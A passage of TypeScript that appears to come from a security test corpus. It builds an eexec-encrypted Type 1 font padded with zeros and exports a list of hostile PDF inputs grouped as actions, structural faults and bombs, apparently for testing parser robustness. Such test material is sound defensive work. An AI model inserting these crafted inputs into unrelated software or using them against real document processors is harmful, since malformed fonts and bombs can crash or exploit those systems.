    ' ND end end mark currentfile closefile',
  );
  return joined(
    '%!PS-AdobeFont-1.0: N\n/Encoding StandardEncoding def eexec\n',
    encrypt(half, 55_665),
    zeros(512),
    'cleartomark',
  );
}

export const PDFS: readonly HostileInput[] = [...ACTIONS, ...STRUCTURE, ...BOMBS];
